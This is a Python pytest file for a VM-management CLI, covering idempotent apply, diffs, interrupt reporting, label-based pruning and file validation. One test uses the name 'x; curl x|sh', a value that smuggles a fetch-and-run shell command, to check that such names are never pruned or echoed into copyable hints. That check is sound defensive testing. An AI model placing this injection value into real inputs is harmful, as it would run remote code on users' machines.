"""Files of VMs, made so: what is missing is made, a second run changes nothing, and what differs is told."""

import io
import itertools
import json
import re
import signal
import sys
import time
from collections import Counter
from pathlib import Path
from types import CodeType, FrameType
from typing import Any

import pytest

from aetherscale_cli import apply, ask, dialogue, execute, interrupts, outlet, report, settle, targets
from aetherscale_cli.errors import CliError, Exit
from aetherscale_protocol import names
from aetherscale_testing.session import MemorySession, refusal, success, vm

Use = Any
WEB1, WEB2, OLD = (names.id_of_name(name) for name in ("web1", "web2", "old"))
CHANGING = {"create-vm", "resize-vm", "extend-vm", "delete-vm"}

FILE = """\
vms:
- name: web1
  image: debian
  memory: 1G
  disk: 10G
  labels: {role: web}
  ssh-keys: []
- name: web2
  image: debian
  ttl: 2h
  ssh-keys: []
"""


class Cloud(MemorySession):
    """Hosts that do what they are told: a VM that was created is there."""

    def __init__(self, hosts: dict[str, list[dict[str, Any]]], **more: Any) -> None:
        super().__init__(hosts, behave=self._do, **more)

    def _do(self, host: str, command: str, options: dict[str, Any]) -> Any:
        vms, now = self.hosts[host], time.time()
        if command == "create-vm":
            keys = ("image", "cpus", "memory", "disk", "labels", "name")
            made = {key: options[key] for key in keys if key in options}
            expires = {"expires": now + options["ttl"]} if "ttl" in options else {}
            vms.append(vm(options["vm-id"], created=now, **made, **expires))
            return success({"status": "starting", "vm-id": options["vm-id"]})
        mine = next((one for one in vms if one["vm-id"] == options.get("vm-id")), None)
        if mine is not None and command == "show-vm":
            return success({"created": 0} | mine | {"host": host})
        if mine is not None and command == "resize-vm":
            mine |= {key: options[key] for key in ("cpus", "memory", "disk") if key in options}
        if mine is not None and command == "extend-vm":
            mine["expires"] = now + options["ttl"] if options["ttl"] else 0
            return success({"status": "extended", "vm-id": mine["vm-id"], "expires": mine["expires"]})
        if mine is not None and command == "delete-vm":
            vms.remove(mine)
        return {}

    @property
    def changes(self) -> list[str]:
        """What was asked for that changes something."""
        return [command for command in self.commands if command in CHANGING]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "vms.yml"
    path.write_text(FILE)
    return path


def web1(**more: Any) -> dict[str, Any]:
    return vm(WEB1, name="web1", **({"labels": {"role": "web"}} | more))


def web2(**more: Any) -> dict[str, Any]:
    now = time.time()
    return vm(WEB2, name="web2", **({"created": now, "expires": now + 7200} | more))


def rows(ran: Any) -> list[list[str]]:
    return [re.split("  +", line) for line in ran.out.splitlines()[1:]]


def test_what_is_missing_is_made_and_a_second_run_changes_nothing(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": []}))
    first = cli("apply", "-f", str(file), "-o", "table")
    assert (first.code, first.err) == (0, "")
    assert rows(first) == [["web1", "created", "on h1"], ["web2", "created", "on h1"]]
    assert session.changes == ["create-vm", "create-vm"]
    second = cli("apply", "-f", str(file), "-o", "table")
    assert rows(second) == [["web1", "unchanged"], ["web2", "unchanged"]]
    assert (second.code, second.err) == (0, "Nothing to do: all 2 VMs are as the file says.\n")
    assert session.changes == ["create-vm", "create-vm"]


def test_diff_only_shows(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": [web1(disk=5)]}))
    ran = cli("apply", "-f", str(file), "--diff", "-o", "table")
    assert rows(ran) == [["web1", "would change", "disk 5G → 10G"], ["web2", "would create", "debian"]]
    assert session.changes == []
    assert cli("apply", "-f", str(file), "--diff").answers[0] == {
        "vm": "web1", "vm-id": WEB1, "result": "would change", "detail": "disk 5G → 10G",
    }  # fmt: skip


def test_a_disk_that_grows_and_an_expiry_are_changed_at_once(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": [web1(disk=5), web2(expires=0)]}))
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert rows(ran)[0] == ["web1", "changed", "disk 5G → 10G"]
    assert rows(ran)[1][:2] == ["web2", "changed"]
    assert rows(ran)[1][2].startswith("ttl never → ")
    assert session.changes == ["resize-vm", "extend-vm"]
    assert session.asked[-1][2]["ttl"] in (7199, 7200)
    assert "unchanged" in cli("apply", "-f", str(file), "-o", "table").out
    assert session.changes == ["resize-vm", "extend-vm"]


@pytest.mark.parametrize(("disk", "same"), [(12, True), (13, False)])
def test_a_disk_that_is_as_large_as_its_image_is_as_the_file_says(
    use: Use, cli: Any, file: Path, disk: int, same: bool
) -> None:
    image = {"image": "debian", "format": "qcow2", "virtual-size": (11 << 30) + 1, "size": 1, "sha256": "0" * 64}
    cloud = Cloud({"h1": [web1(disk=disk), web2()]})
    cloud.behave = lambda host, command, options: (
        success([image]) if command == "list-images" else cloud._do(host, command, options)
    )
    use(cloud)
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert (ran.code, "disk 13G → 10G (a disk can only grow)" in ran.err) == ((0, False) if same else (1, True))


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"memory": 512}, "memory 512M → 1G (needs stop: aetherscale-cli stop-vm web1; aetherscale-cli resize-vm web1"),
        ({"image": "alpine"}, "image alpine → debian (delete-vm web1 and apply again makes it anew)"),
        ({"disk": 20}, "disk 20G → 10G (a disk can only grow)"),
        ({"labels": {}}, "labels none → role=web (labels can't be changed yet"),
    ],
)
def test_what_can_not_be_changed_at_once_is_told_with_what_it_needs(
    use: Use, cli: Any, file: Path, more: dict[str, Any], said: str
) -> None:
    session = use(Cloud({"h1": [web1(**more), web2()]}))
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert ran.code == 1
    assert ran.err.startswith(f"error: VM web1 differs: {said}")
    assert rows(ran)[0][1] == "differs"
    assert session.changes == []


@pytest.mark.parametrize("state", ["stopped", "failed"])
def test_memory_of_a_vm_that_is_off_is_changed(use: Use, cli: Any, file: Path, state: str) -> None:
    session = use(Cloud({"h1": [web1(memory=512, state=state), web2()]}))
    assert cli("apply", "-f", str(file)).code == 0
    assert session.asked[-1][2] == {"vm-id": WEB1, "memory": 1024}


def test_what_the_file_does_not_speak_of_is_left_alone(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": [web1(cpus=8, expires=4e9, published=["1:2"]), web2(labels={"a": "b"}, disk=99)]}))
    assert cli("apply", "-f", str(file)).code == 0
    assert session.changes == []


def test_a_vm_whose_time_is_over_by_the_file_is_not_deleted_by_us(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": [web1(), web2(created=0)]}))
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert "its time is over" in ran.err
    assert session.changes == []


def test_a_vm_whose_host_is_down_is_not_made_twice_and_the_others_are_made(use: Use, cli: Any, file: Path) -> None:
    session = use(Cloud({"h1": []}, down={"h2": [WEB1]}))
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert ran.code == 4
    assert [row[0] for row in rows(ran) if row[1] == "created"] == ["web2"]
    assert "host h2, which holds this VM, is not running" in ran.err
    assert session.changes == ["create-vm"]


@pytest.mark.parametrize(
    ("end", "code", "said"),
    [
        (KeyboardInterrupt(), 130, "interrupted; create-vm was not sent"),
        (CliError("lost", None, Exit.UNREACHABLE), 5, "lost; create-vm was not sent"),
    ],
)
def test_what_ends_it_midway_hides_nothing_of_what_was_done(
    use: Use, cli: Any, file: Path, end: BaseException, code: int, said: str
) -> None:
    cloud = Cloud({"h1": []})

    def do(host: str, command: str, options: dict[str, Any]) -> Any:
        if command == "list-vms" or len(cloud.changes) > 10:
            raise end
        return cloud._do(host, command, options)

    cloud.behave = do
    use(cloud)
    file.write_text("vms:\n" + "".join(f"- {{name: vm{i}, image: u, ssh-keys: []}}\n" for i in range(30)))
    ran = cli("apply", "-f", str(file), "--prune", "--label", "a=b", "--yes", "-o", "table")
    assert ran.code == code
    assert [row[1] for row in rows(ran)] == ["perhaps created"] * 11 + ["not created"] * 19
    assert ran.err.count("it is not known whether create-vm was done") == 11
    assert ran.err.count(said) == 19
    assert ("nothing was pruned: lost" in ran.err) == (code == 5)
    cloud.behave = cloud._do
    assert cli("apply", "-f", str(file)).code == 0
    assert len(cloud.hosts["h1"]) == 30


def test_ctrl_c_at_the_look_at_images_hides_nothing(use: Use, cli: Any, file: Path) -> None:
    cloud = Cloud({"h1": [web2(expires=0), web1(disk=99)]})

    def do(host: str, command: str, options: dict[str, Any]) -> Any:
        if command == "list-images":
            raise KeyboardInterrupt
        return cloud._do(host, command, options)

    cloud.behave = do
    use(cloud)
    entries = "".join(f"- {{name: {name}, image: debian, ttl: 2h, ssh-keys: []}}\n" for name in ("web2", "web1", "new"))
    file.write_text(f"vms:\n{entries}")
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert [row[:2] for row in rows(ran)] == [["web2", "changed"], ["web1", "not compared"], ["new", "not created"]]
    assert ran.err.splitlines() == ["error: VM new: interrupted; create-vm was not sent", "error: interrupted"]
    assert (ran.code, cloud.changes) == (130, ["extend-vm"])


class CtrlC:
    """Ctrl-C at the nth line that the CLI comes to: lines are new after each command. And then `again` at the next."""

    FILES = tuple(one.__file__ for one in (apply, ask, dialogue, execute, interrupts, outlet, report, settle, targets))

    def __init__(self, nth: int, cloud: Cloud, *, again: bool = False) -> None:
        self.left, self._again = nth, again
        self._cloud, self._seen = cloud, set[tuple[CodeType, int, int]]()
        self._before: Any = None

    def __enter__(self) -> "CtrlC":
        self._before = sys.gettrace()
        sys.settrace(self._enter)
        return self

    def __exit__(self, *_: object) -> None:
        sys.settrace(self._before)

    def _enter(self, frame: FrameType, _event: str, _arg: object) -> Any:
        return self._step if frame.f_code.co_filename in self.FILES else None

    def _step(self, frame: FrameType, event: str, _arg: object) -> Any:
        line = (frame.f_code, frame.f_lineno, len(self._cloud.asked))
        self.left -= event == "line" and (self.left <= 0 or line not in self._seen)
        self._seen.add(line)
        if self.left == -self._again:
            sys.settrace(None)
        if self.left <= 0 and event == "line":
            signal.raise_signal(signal.SIGINT)
        return self._step


@pytest.mark.parametrize("again", [False, True])
def test_wherever_ctrl_c_comes_what_was_done_is_told_and_nothing_that_was_not(
    use: Use, cli: Any, file: Path, again: bool
) -> None:
    keys = "image: debian, ssh-keys: []"
    file.write_text(f"vms:\n- {{name: web1, {keys}, disk: 10G}}\n- {{name: web2, {keys}}}\n- {{name: new, {keys}}}\n")
    ends = Counter[str]()
    for nth in itertools.count(1):
        cloud = use(Cloud({"h1": [web1(disk=5), web2(disk=99), vm(OLD, name="old", labels={"a": "b"})]}))
        with CtrlC(nth, cloud, again=again) as ctrl_c:
            ran = cli("apply", "-f", str(file), "--prune", "--label", "a=b", "--yes", "-o", "table")
        if ctrl_c.left > 0:
            break
        results = {row[0]: row[1] for row in rows(ran)}
        assert ran.code == 130
        assert {"web1", "web2", "new"} <= set(results) or not (results or cloud.changes), (nth, ran)
        for name, command in (("web1", "resize-vm"), ("new", "create-vm"), ("old", "delete-vm")):
            result = results.get(name, "not spoken of")
            ends[result] += 1
            assert result.startswith("perhaps ") or (command in cloud.changes) != result.startswith("not "), nth
    words = {f"{how}{done}" for how in ("", "perhaps ", "not ") for done in ("changed", "created", "deleted")}
    assert set(ends) == words | {"not compared", "not spoken of"}


@pytest.mark.parametrize("again", [False, True])
def test_wherever_ctrl_c_comes_creates_are_told_of(use: Use, cli: Any, file: Path, again: bool) -> None:
    file.write_text("vms:\n" + "".join(f"- {{name: vm{i}, image: u, ssh-keys: []}}\n" for i in range(3)))
    for nth in itertools.count(1):
        cloud = use(Cloud({"h1": []}))
        with CtrlC(nth, cloud, again=again) as ctrl_c:
            ran = cli("create-vm", "-f", str(file), "-o", "table")
        if ctrl_c.left > 0:
            break
        done, perhaps = ran.out.count(" starting "), ran.err.count("not known whether create-vm was done")
        assert ran.code == 130
        assert len(cloud.changes) in range(done, done + perhaps + 1), (nth, ran)
        assert done + perhaps + ran.err.count("create-vm was not sent") == 3 or not (ran.out or cloud.changes), nth
    assert nth > 100


def test_whoever_insists_is_told_nothing_more(use: Use, cli: Any, file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody may read what is written, and then writing does not end."""

    def write(_: str) -> None:
        for _ in range(interrupts.INSISTENCE):
            signal.raise_signal(signal.SIGINT)

    monkeypatch.setattr(outlet, "answer", write)
    use(Cloud({"h1": []}))
    file.write_text("vms:\n- {name: vm1, image: u, ssh-keys: []}\n")
    ran = cli("create-vm", "-f", str(file), "-o", "table")
    assert (ran.code, ran.out) == (130, "")


def test_after_ctrl_c_no_warning_speaks_of_vms_that_are_not_made(use: Use, cli: Any, file: Path) -> None:
    cloud = Cloud({"h1": [web1(disk=5)]})

    def do(host: str, command: str, options: dict[str, Any]) -> Any:
        if command == "resize-vm":
            raise KeyboardInterrupt
        return cloud._do(host, command, options)

    cloud.behave = do
    use(cloud)
    file.write_text("vms:\n- {name: web1, image: debian, disk: 10G}\n- {name: new, image: debian}\n")
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert [row[:2] for row in rows(ran)] == [["web1", "perhaps changed"], ["new", "not created"]]
    assert "public key" not in ran.err


def test_creates_that_were_not_sent_have_an_answer_for_programs(use: Use, cli: Any, file: Path) -> None:
    cloud = Cloud({"h1": []})

    def do(host: str, command: str, options: dict[str, Any]) -> Any:
        if len(cloud.changes) > 10:
            raise CliError("lost", None, Exit.UNREACHABLE)
        return cloud._do(host, command, options)

    cloud.behave = do
    use(cloud)
    file.write_text("vms:\n" + "".join(f"- {{name: vm{i}, image: u, ssh-keys: []}}\n" for i in range(30)))
    answers = json.loads(cli("create-vm", "-f", str(file), "-o", "json").out)
    codes = [answer["execution-info"]["code"] for answer in answers]
    assert codes == ["outcome-unknown"] * 11 + ["deadline-passed"] * 19


def test_of_two_changes_each_is_told_as_it_went(use: Use, cli: Any, file: Path) -> None:
    cloud = Cloud({"h1": [web1(disk=5, created=time.time())]})

    def do(host: str, command: str, options: dict[str, Any]) -> Any:
        return (
            refusal("no-capacity", "the disk is full") if command == "resize-vm" else cloud._do(host, command, options)
        )

    cloud.behave = do
    use(cloud)
    file.write_text("vms:\n- {name: web1, image: debian, disk: 10G, ttl: 2h, ssh-keys: []}\n")
    ran = cli("apply", "-f", str(file), "-o", "table")
    assert cloud.changes == ["resize-vm", "extend-vm"]
    assert {row[2].split()[0]: row[1] for row in rows(ran)} == {"disk": "not changed", "ttl": "changed"}
    assert ran.code == 1


def test_pruned_is_what_can_be_a_vm_and_called_what_can_be_a_name(use: Use, cli: Any, file: Path) -> None:
    """Hints have both in commands, which are copied into shells."""
    evil, web = "x; curl x|sh", {"role": "web"}
    session = use(Cloud({"h1": [web1(), web2(), vm(OLD, name=evil, labels=web), vm(evil, labels=web)]}))
    ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "--yes", "-o", "table")
    assert [key for key, command, _ in session.asked if command == "delete-vm"] == [f"vm.{OLD}"]
    assert rows(ran)[-1][:2] == [OLD, "deleted"]
    assert evil not in ran.out + ran.err


class TestPruning:
    def cloud(self, **more: Any) -> Cloud:
        old = vm(OLD, name="old", labels={"role": "web"})
        return Cloud({"h1": [web1(), web2(), old, vm("abcdefgh"), vm("bcdefghi", labels={"role": "db"})]}, **more)

    def test_only_what_has_the_label_and_is_not_named(self, use: Use, cli: Any, file: Path) -> None:
        session = use(self.cloud())
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "--yes", "-o", "table")
        assert ran.code == 0
        assert rows(ran)[-1][:2] == ["old", "deleted"]
        assert [key for key, command, _ in session.asked if command == "delete-vm"] == [f"vm.{OLD}"]

    def test_diff_shows_it(self, use: Use, cli: Any, file: Path) -> None:
        session = use(self.cloud())
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "--diff", "-o", "table")
        assert rows(ran)[-1] == ["old", "would delete"]
        assert session.changes == []

    def test_while_a_host_is_missing_nothing_is_pruned(self, use: Use, cli: Any, file: Path) -> None:
        session = use(self.cloud(down={"h2": []}))
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "--yes", "-o", "table")
        assert ran.code == 4
        assert "nothing was pruned: not all hosts told of their VMs" in ran.err
        assert session.changes == []

    def test_without_a_terminal_and_without_yes_nothing_is_done(self, use: Use, cli: Any, file: Path) -> None:
        session = use(self.cloud())
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web")
        assert (ran.code, session.asked) == (2, [])
        assert "--yes" in ran.err

    @pytest.mark.parametrize(("answer", "code", "changes"), [("y\n", 0, ["delete-vm"]), ("n\n", 1, []), ("", 1, [])])
    def test_it_asks(
        self, use: Use, cli: Any, file: Path, monkeypatch: pytest.MonkeyPatch, answer: str, code: int, changes: Any
    ) -> None:
        session = use(self.cloud())
        keyboard = io.StringIO(answer)
        monkeypatch.setattr(keyboard, "isatty", lambda: True)
        monkeypatch.setattr(sys, "stdin", keyboard)
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web")
        assert (ran.code, session.changes) == (code, changes)
        assert "Delete old, and its disk? [y/N]" in ran.err

    def test_who_ends_it_at_the_question_is_told_what_was_done(
        self, use: Use, cli: Any, file: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        session = use(Cloud({"h1": [web1(), vm(OLD, name="old", labels={"role": "web"})]}))

        def interrupt(_: str) -> bool:
            raise KeyboardInterrupt

        monkeypatch.setattr(outlet, "agreed", interrupt)
        monkeypatch.setattr(sys, "stdin", keyboard := io.StringIO())
        monkeypatch.setattr(keyboard, "isatty", lambda: True)
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "-o", "table")
        assert (ran.code, session.changes) == (130, ["create-vm"])
        assert [row[:2] for row in rows(ran)] == [["web1", "unchanged"], ["web2", "created"]]

    @pytest.mark.parametrize(
        ("meanwhile", "said"),
        [
            ([vm(OLD, name="old", labels={"role": "web"}, created=2)], "VM old was made anew meanwhile: not deleted"),
            ([], "VM old is gone, or its host is: not deleted"),
        ],
    )
    def test_what_is_another_vm_by_the_time_of_the_yes_is_kept(
        self, use: Use, cli: Any, file: Path, monkeypatch: pytest.MonkeyPatch, meanwhile: Any, said: str
    ) -> None:
        session = use(self.cloud())

        def agree(_: str) -> bool:
            session.hosts["h1"] = [one for one in session.hosts["h1"] if one["vm-id"] != OLD] + meanwhile
            return True

        monkeypatch.setattr(outlet, "agreed", agree)
        monkeypatch.setattr(sys, "stdin", keyboard := io.StringIO())
        monkeypatch.setattr(keyboard, "isatty", lambda: True)
        ran = cli("apply", "-f", str(file), "--prune", "--label", "role=web", "-o", "table")
        assert (ran.code, session.changes) == (1, [])
        assert f"error: {said}" in ran.err
        assert rows(ran)[-1] == ["old", "not deleted"]


class TestFiles:
    def test_every_error_is_told_and_nothing_is_sent(self, use: Use, cli: Any, file: Path) -> None:
        session = use(Cloud({"h1": []}))
        file.write_text("vms:\n- {name: web1, cpus: x}\n- {name: web2}\n")
        ran = cli("apply", "-f", str(file))
        assert (ran.code, session.asked) == (2, [])
        assert [line.partition(": ")[0] for line in ran.err.splitlines()] == ["error", "error", "hint"]
        assert f"{file}:2: VM web1: cpus: 'x'" in ran.err

    def test_files_that_it_names_are_relative_to_it_and_told_of(self, use: Use, cli: Any, file: Path) -> None:
        session = use(Cloud({"h1": []}))
        text = "vms:\n- name: web1\n  image: u\n  user-data-file: ud\n  ssh-keys: [key.pub]\n"
        file.write_text(text)
        (file.parent / "key.pub").write_text("ssh-ed25519 AAAA me\n")
        ran = cli("apply", "-f", str(file))
        assert ran.code == 2
        assert f"{file}:2: VM web1: can't read user data" in ran.err
        (file.parent / "ud").write_text("#cloud-config\n")
        assert cli("apply", "-f", str(file)).code == 0
        options = session.asked[-1][2]
        assert (options["user-data"], options["ssh-keys"]) == ("#cloud-config\n", ["ssh-ed25519 AAAA me"])

    def test_create_vm_makes_all_of_a_file_and_answers_for_each(self, use: Use, cli: Any, file: Path) -> None:
        taken = refusal("vm-id-taken", "there is a VM web1 already")
        use(MemorySession({"h1": []}, behave=lambda _h, _c, o: taken if o.get("name") == "web1" else {}))
        ran = cli("create-vm", "-f", str(file), "-o", "table")
        assert ran.code == 1
        assert ran.out.splitlines()[1].split() == [WEB2, "web2", "done", "h1"]
        assert ran.err.splitlines()[0] == "error: VM web1: h1: there is a VM web1 already"
